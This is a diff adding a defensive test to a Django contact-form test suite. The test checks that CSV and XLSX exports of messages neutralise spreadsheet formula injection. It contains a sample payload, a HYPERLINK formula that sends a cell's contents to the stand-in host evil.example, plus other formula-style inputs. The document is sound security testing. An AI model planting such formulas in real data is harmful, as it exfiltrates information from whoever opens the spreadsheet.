@@ -1,9 +1,11 @@
 """The contact form against a real SMTP server on 127.0.0.1 (aiosmtpd), spam defences included."""
 
+import csv
 import datetime
 import io
 import socket
 
+import openpyxl
 import pytest
 from aiosmtpd.controller import Controller
 from django.core.management import call_command
@@ -113,6 +115,21 @@ def test_a_refusing_smtp_server_loses_nothing(client, recipient, smtp, admin_cli
     export = admin_client.get("/admin/messages/?export=csv")
     export = b"".join(export.streaming_content).decode("utf-8-sig")
     assert "Bonjour, comment rejoindre le covoiturage ?" in export
+
+
+def test_exports_never_turn_a_message_into_a_formula(client, recipient, admin_client):
+    attack = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
+    post(client, name=attack, message="@SUM(1+1)")
+    post(client, email="autre@example.fr", name="-2+3", message="Bonjour = merci")
+    export = admin_client.get("/admin/messages/?export=csv")
+    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))
+    assert {r["Nom"] for r in rows} == {"'" + attack, "'-2+3"}
+    assert {r["Message"] for r in rows} == {"'@SUM(1+1)", "Bonjour = merci"}
+    workbook = openpyxl.load_workbook(
+        io.BytesIO(admin_client.get("/admin/messages/?export=xlsx").getvalue())
+    )
+    cells = [cell.value for row in workbook.active.iter_rows() for cell in row]
+    assert attack in cells and workbook.active["B2"].data_type == "s"
 
 
 def test_the_honeypot_silently_drops_robots(client, recipient, smtp):
